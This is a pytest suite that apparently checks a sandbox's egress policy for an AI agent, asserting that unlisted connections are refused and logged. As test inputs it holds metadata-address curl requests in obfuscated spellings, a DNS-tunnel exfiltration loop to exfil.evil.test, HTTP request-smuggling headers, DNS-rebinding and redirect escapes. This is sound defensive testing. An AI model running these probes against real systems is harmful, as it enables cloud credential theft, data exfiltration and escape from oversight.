"""Wall 3: what the policy does not name is refused, told to the agent in its own protocol, and in the log; the servers
outside see nothing of it."""
import json
import pathlib

import pytest

from person import PATH, SERVERS

# Each name leads somewhere that no rule opens; all their rules are there.
FORBIDDEN = {
    "loopback.test": "127.0.0.1", "loopback2.test": "127.1.2.3", "zero.test": "0.0.0.0", "metadata.test": "169.254.169.254",
    "linklocal.test": "169.254.1.1", "private10.test": "10.1.2.3", "private172.test": "172.20.0.1",
    "private192.test": "192.168.1.1", "shared.test": "100.64.0.1", "broadcast.test": "255.255.255.255",
    "multicast.test": "224.0.0.1", "loopback6.test": "::1", "any6.test": "::", "mapped.test": "::ffff:127.0.0.1",
    "mapped-metadata.test": "::ffff:169.254.169.254", "compatible.test": "::127.0.0.1", "nat64.test": "64:ff9b::7f00:1",
    "nat64-metadata.test": "64:ff9b::a9fe:a9fe", "sixtofour.test": "2002:7f00:1::1", "teredo.test": "2001:0:1:2:3:4:80ff:fffe",
    "ula.test": "fd00::1", "linklocal6.test": "fe80::1", "aws6.test": "fd00:ec2::254", "host.test": "20.0.0.2",
}
NAMES = {"api.test": SERVERS, "other.test": SERVERS, "evil.test": SERVERS,
         "unlisted.test": SERVERS, "*.wild.test": SERVERS, "rebind-root.test": [[SERVERS], [SERVERS], ["169.254.169.254"]],
         "rebind-user.test": [[SERVERS], [SERVERS], ["169.254.169.254"]], **FORBIDDEN}

POLICY = """
run: {{ workdir: /tmp }}
network:
  resolver: 20.0.0.1:53
  allow:
    - {{ host: api.test, ports: [80, 8080], protocol: http, methods: [GET], paths: [/, /redirect, /open/**] }}
    - {{ host: api.test, ports: [443], tls: passthrough }}
    - {{ host: other.test, ports: [443], tls: passthrough }}
{names}
  deny: [{{ host: evil.test }}, {{ host: evil.wild.test }}]
files:
  - {{ host: {ca}, at: /ca.pem, access: read }}
{more}
"""
TRY = """
import socket, ssl, sys, json
def http(host, port=80, target='/', name=None, method='GET', head=''):
    try:
        s = socket.create_connection((host, port), 10)
        s.sendall(f'{method} {target} HTTP/1.1\\r\\nHost: {name or host}\\r\\n{head}Connection: close\\r\\n\\r\\n'.encode())
        answer = b''
        while data := s.recv(65536): answer += data
        return answer.decode()
    except OSError as error: return f'error {error}'
def tls(host, port=443, name=None):
    trust = ssl.create_default_context(cafile='/ca.pem'); trust.check_hostname = False
    try: return 'connected ' + trust.wrap_socket(socket.create_connection((host, port), 10), server_hostname=name or host).version()
    except (ssl.SSLError, OSError) as error: return f'error {error}'
"""


@pytest.fixture
def attempt(online):
    """Runs a script inside; what the servers saw meanwhile is `attempt.seen`."""
    def run(script, more="", names=""):
        before = len(online.internet.seen())
        policy = POLICY.format(ca=online.internet.ca, more=more, names=names)
        done = online.python(TRY + script, policy=policy)
        run.seen = online.internet.seen()[before:]
        assert done.status == 0, done
        return done.stdout
    run.seen = []
    return run


def connects(seen):
    return [event for event in seen if event["kind"] in ("connect", "http")]


def test_what_is_allowed_works_so_that_the_rest_means_something(attempt, online):
    out = attempt("print(http('api.test').splitlines()[0], tls('api.test'))")
    assert out.startswith("HTTP/1.1 200") and "connected TLSv1.3" in out
    assert online.events(decision="deny") == []


@pytest.mark.parametrize("address", ["20.0.0.1", "1.1.1.1", "169.254.169.254", "10.0.0.1", "2a00:20::1", "::ffff:20.0.0.1",
                                     "64:ff9b::1400:1", "198.18.0.77"])
def test_a_raw_address_is_refused(attempt, online, address):
    out = attempt(f"print(http({address!r}))")
    assert "hello" not in out and ("403" in out or "error" in out), out
    assert attempt.seen == []
    shown = "20.0.0.1" if address == "::ffff:20.0.0.1" else address
    subject = f"[{shown}]:80" if ":" in shown else f"{shown}:80"
    events = [e for e in online.events(kind="connect", decision="deny") if e["subject"] in (subject, "[::ffff:20.0.0.1]:80")]
    assert len(events) == 1 and events[0]["wall"] == "network" and events[0]["reason"], online.events()


@pytest.mark.parametrize("spelling", ["2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "[::ffff:a9fe:a9fe]"])
def test_the_metadata_address_in_other_spellings(attempt, online, spelling):
    out = attempt(f"import subprocess; print(subprocess.run(['curl', '-sS', '-m', '10', 'http://{spelling}/latest/meta-data/'],"
                  "capture_output=True, text=True))")
    assert "hello" not in out and attempt.seen == [], out
    assert online.events(kind="connect", decision="deny"), online.events()


def test_http_refusals_explain_themselves(attempt, online):
    out = attempt("print(http('unlisted.test'))")
    head, body = out.split("\n\n", 1)
    assert head.startswith("HTTP/1.1 403")
    assert "unlisted.test" in json.dumps(json.loads(body))
    assert attempt.seen == []
    assert online.events(kind="connect", decision="deny", subject="unlisted.test:80")


def test_tls_refusals_are_alerts(attempt, online):
    out = attempt("print(tls('unlisted.test'))")
    assert "alert" in out.lower() or "denied" in out.lower(), out
    assert attempt.seen == [] and online.events(decision="deny", subject="unlisted.test:443")


def test_deny_beats_allow(attempt, online):
    out = attempt("print(http('evil.wild.test'))", names="    - { host: \"*.wild.test\", ports: [80], protocol: http }")
    assert "403" in out and attempt.seen == []
    event = online.events(decision="deny", subject="evil.wild.test:80")[0]
    assert event["rule"].startswith("network.deny"), event


def test_a_port_that_no_rule_names(attempt, online):
    attempt("print(tls('api.test', 8443))")
    assert attempt.seen == [] and online.events(decision="deny", subject="api.test:8443")


def test_sni_that_differs(attempt, online):
    out = attempt("print(tls('api.test', name='other.test')); print(tls('api.test', name='evil.test'))")
    assert "connected" not in out and connects(attempt.seen) == []
    events = online.events(decision="deny", subject="api.test:443")
    assert len(events) == 2 and all("server name" in event["reason"] for event in events), events


def test_no_sni_under_a_name(attempt, online):
    out = attempt("""
s = socket.create_connection(('api.test', 443), 10); c = ssl.create_default_context(); c.check_hostname = False
c.verify_mode = ssl.CERT_NONE
try: c.wrap_socket(s); print('connected')
except (ssl.SSLError, OSError) as error: print('error')
""")
    assert out == "error\n" and connects(attempt.seen) == []
    assert online.events(decision="deny", subject="api.test:443")


def test_host_that_differs(attempt, online):
    for name in ("other.test", "evil.test", "api.test:8080", "20.0.0.1"):
        out = attempt(f"print(http('api.test', name={name!r}))")
        assert "HTTP/1.1 403" in out, (name, out)
        assert [event for event in attempt.seen if event["kind"] == "http"] == []
        assert online.events(kind="request", decision="deny"), online.events()


@pytest.mark.parametrize("method, target", [("POST", "/"), ("GET", "/secret"), ("GET", "/open/../secret"),
                                            ("GET", "/open/%2e%2e/secret"), ("GET", "/open//../../secret"), ("DELETE", "/open/x")])
def test_method_and_path(attempt, online, method, target):
    out = attempt(f"print(http('api.test', target={target!r}, method={method!r}))")
    assert "HTTP/1.1 40" in out, out
    assert [event for event in attempt.seen if event["kind"] == "http"] == []
    assert online.events(kind="request", decision="deny"), online.events()


@pytest.mark.parametrize("name, head", [
    ("both lengths", "Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n"), ("two hosts", "Host: evil.test\\r\\n"),
    ("folded", "X-A: b\\r\\n c\\r\\n"), ("space before colon", "X-A : b\\r\\n"), ("bare line feed", "X-A: b\\nX-C: d\\r\\n"),
    ("two lengths", "Content-Length: 5\\r\\nContent-Length: 6\\r\\n"), ("override", "X-HTTP-Method-Override: DELETE\\r\\n")])
def test_what_two_parsers_could_read_differently(attempt, online, name, head):
    out = attempt(f'print(http("api.test", head="{head}"))')
    assert "HTTP/1.1 40" in out or "error" in out, out
    assert [event for event in attempt.seen if event["kind"] == "http"] == []
    assert online.events(decision="deny"), online.events()


def test_tls_on_a_port_for_http_and_neither(attempt, online):
    out = attempt("""
print(tls('api.test', 80))
s = socket.create_connection(('api.test', 443), 10); s.sendall(b'SSH-2.0-x\\r\\n')
try: print(s.recv(100))
except OSError: print('reset')
""")
    assert "connected" not in out and connects(attempt.seen) == []
    assert online.events(decision="deny", subject="api.test:80") and online.events(decision="deny", subject="api.test:443")


@pytest.mark.parametrize("name", FORBIDDEN)
def test_a_name_that_leads_to_a_forbidden_address(attempt, online, name):
    out = attempt(f"print(http({name!r}))", names=f"    - {{ host: {name}, ports: [80], protocol: http }}")
    assert "hello" not in out, out
    assert connects(attempt.seen) == []
    events = online.events(decision="deny", subject=name)
    assert events and events[0]["wall"] == "network", online.events()


def test_a_forbidden_address_that_the_rule_names_is_opened(attempt):
    out = attempt("print(http('metadata.test'))",
                  names="    - { host: metadata.test, ports: [80], protocol: http, addresses: [169.254.169.254] }")
    assert "hello from metadata.test" in out, out


def test_a_rebinding_name(attempt, online, uid):
    name = "rebind-root.test" if uid == 0 else "rebind-user.test"
    out = attempt(f"""
import time
end = time.monotonic() + 30
while (line := http({name!r}).splitlines()[0]).startswith('HTTP/1.1 200') and time.monotonic() < end: time.sleep(0.1)
print(line)
""", names=f"    - {{ host: {name}, ports: [80], protocol: http }}")
    # Held to the address that was checked for as long as the answer lives; asked again, and told another one: refused.
    assert out.startswith("HTTP/1.1 403"), out
    assert {event["address"] for event in attempt.seen if event["kind"] == "connect"} == {SERVERS}
    assert online.events(decision="allow", subject=f"{name}:80") and online.events(decision="deny", subject=f"{name}:80")


def test_a_redirect_to_an_unlisted_host(attempt, online):
    out = attempt("""
import subprocess
for path in ('redirect?to=http://unlisted.test/', 'redirect?to=https://unlisted.test/', 'open/metadata', 'redirect?to=http://169.254.169.254/'):
    print(subprocess.run(['curl', '-sSL', '-m', '10', '-w', '%{http_code}', f'http://api.test/{path}'],
          capture_output=True, text=True))
""")
    assert "hello" not in out, out
    assert {event["host"] for event in attempt.seen if event["kind"] == "http"} == {"api.test"}
    for subject in ("unlisted.test:80", "unlisted.test:443", "169.254.169.254:80"):
        assert online.events(kind="connect", decision="deny", subject=subject), subject
    # Asked of the server in so many words, it is refused before.
    assert "169.254.169.254" in online.events(kind="request", decision="deny")[-1]["reason"]


def test_udp_is_refused_with_an_event(attempt, online):
    out = attempt("""
for family, address in ((socket.AF_INET, '20.0.0.1'), (socket.AF_INET6, '2a00:20::1')):
    s = socket.socket(family, socket.SOCK_DGRAM); s.connect((address, 443)); s.settimeout(5)
    try: s.send(b'quic?'); s.recv(10); print('answer')
    except ConnectionRefusedError: print('refused')
    except OSError as error: print(error)
""")
    assert out == "refused\nrefused\n"
    assert attempt.seen == []
    for subject in ("20.0.0.1:443", "[2a00:20::1]:443"):
        assert online.events(kind="datagram", decision="deny", subject=subject), online.events()


def test_icmp_and_raw_sockets_cannot_be_made(attempt):
    out = attempt("""
for family, kind, protocol in ((2, 3, 1), (2, 2, 1), (10, 3, 58), (10, 2, 58), (17, 3, 768), (2, 3, 255), (16, 3, 12), (40, 1, 0), (38, 5, 0)):
    try: socket.socket(family, kind, protocol); print('made', family, kind, protocol)
    except OSError: pass
""")
    assert out == ""


def test_no_query_of_a_dns_tunnel_is_seen_outside(attempt, online):
    out = attempt("""
import struct
names = [f'{i:04x}.c2VjcmV0LWRhdGE.exfil.evil.test' for i in range(50)] + ['x' * 60 + '.tunnel.test']
for name in names:
    try: socket.getaddrinfo(name, 443)
    except OSError: pass
query = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l for l in (b'direct', b'exfil', b'test')) + b'\\0'
for kind in (1, 28, 16, 5, 15, 2, 255, 10):
    for server in ('20.0.0.1', '8.8.8.8', '127.0.0.53'):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
        try: s.sendto(query + struct.pack('>HH', kind, 1), (server, 53)); s.recv(512)
        except OSError: pass
try:
    s = socket.create_connection(('20.0.0.1', 53), 5); q = query + struct.pack('>HH', 16, 1)
    s.sendall(struct.pack('>H', len(q)) + q); s.settimeout(1); s.recv(512)
except OSError: pass
print('done')
""")
    assert out == "done\n"
    assert attempt.seen == []


def test_a_name_is_looked_up_outside_only_when_it_is_allowed(attempt):
    attempt("""
for name in ('api.test', 'unlisted.test', 'evil.test'): http(name)
""")
    assert {event["name"] for event in attempt.seen if event["kind"] == "dns"} == {"api.test"}


@pytest.mark.parametrize("policy", [None, "run: { workdir: /tmp }\n", "run: { workdir: /tmp }\nnetwork: { allow: [] }\n"])
def test_without_a_rule_nothing_can_be_reached_and_each_refusal_is_an_event(online, policy):
    before = len(online.internet.seen())
    out = online.python(TRY + "print(http('api.test')); print(http('20.1.2.3', 8080))", policy=policy).stdout
    assert out.count("HTTP/1.1 403") == 2 and "no rule of network.allow names api.test" in out, out
    for subject in ("api.test:80", "20.1.2.3:8080"):
        assert online.events(kind="connect", decision="deny", subject=subject), (subject, online.events())
    assert not connects(online.internet.seen()[before:])
    told = online.stockade("why", online.last_run()["id"])
    assert "20.1.2.3:8080" in told.stdout and "under network.allow" in told.stdout, told


def test_a_rule_for_programs(attempt, online):
    out = attempt("""
import subprocess
print(subprocess.run(['curl', '-sS', 'http://other.test:8080/'], capture_output=True, text=True).stdout)
print(http('other.test', 8080, name='other.test:8080'))
""", names="    - { host: other.test, ports: [8080], protocol: http, programs: [curl] }")
    assert out.count("hello from other.test:8080") == 1, out
    assert online.events(decision="deny", subject="other.test:8080"), online.events()


@pytest.mark.parametrize("binary", ["@acme/agent/vendor/agent", "@acme/agent-linux-x64/vendor/agent",
                                    "@acme/agent/node_modules/@acme/agent-linux-x64/agent", "@acme/agent/bin/agent"])
def test_a_rule_for_a_command_of_npm_covers_the_binary_that_its_script_starts(online, binary):
    """As npm installs Codex: a link to a script, which starts a binary of its package or of the one for its platform."""
    modules = online.home / ".npm-global/lib/node_modules"
    online.write(modules / "@acme/agent/package.json", "{}")
    online.write(modules / "@acme/agent/bin/agent.js", f"""#!/usr/bin/env node
const done = require('child_process').spawnSync('{modules / binary}', process.argv.slice(2), {{stdio: 'inherit'}})
""", 0o755)
    online.write(modules / binary, pathlib.Path("/usr/bin/curl").read_bytes(), 0o755)
    online.write(modules / "@acme/other/agent", pathlib.Path("/usr/bin/curl").read_bytes(), 0o755)
    online.write(online.home / ".npm-global/bin/.keep", "")
    (online.home / ".npm-global/bin/agent").symlink_to("../lib/node_modules/@acme/agent/bin/agent.js")
    done = online.sh(f"""
        agent -sS http://other.test:8080/
        curl -s -o /dev/null -w '%{{http_code}}\n' http://other.test:8080/
        {modules}/@acme/other/agent -s -o /dev/null -w '%{{http_code}}\n' http://other.test:8080/
        """, env={"PATH": f"{online.home}/.npm-global/bin:{PATH}"}, policy=POLICY.format(ca=online.internet.ca, more="",
            names="    - { host: other.test, ports: [8080], protocol: http, programs: [agent] }"))
    assert done.stdout.split("\n") == ["hello from other.test:8080", "403", "403", ""], (done, online.events())
    for program in ("/usr/bin/curl", f"{modules}/@acme/other/agent"):
        event, = online.events(decision="deny", subject="other.test:8080", reason=f"{program} made this connection")
        assert event["hint"] == f"add {program} to `programs` of the rule", event


@pytest.mark.parametrize("limit, script, by", [
    ("connections: 3", "for _ in range(5): http('api.test')", "limit:connections"),
    ("requests: 3", "for _ in range(5): http('api.test')", "limit:requests"),
    ("bytes_out: 64KiB", "s = ssl.create_default_context(cafile='/ca.pem').wrap_socket(socket.create_connection(('api.test', 443)),"
     " server_hostname='api.test')\nwhile True: s.sendall(b'POST / HTTP/1.1\\r\\n' + b'x' * 10000)", "limit:bytes_out"),
    ("names: 3", "for i in range(9): http(f'n{i}.wild.test')", "limit:names")])
def test_limits_of_the_network(online, limit, script, by):
    policy = POLICY.format(ca=online.internet.ca, more=f"limits: {{ {limit} }}", names='    - { host: "*.wild.test", ports: [80], protocol: http }')
    done = online.python(TRY + script, policy=policy)
    assert done.status == 137, done
    assert online.ended_by() == by
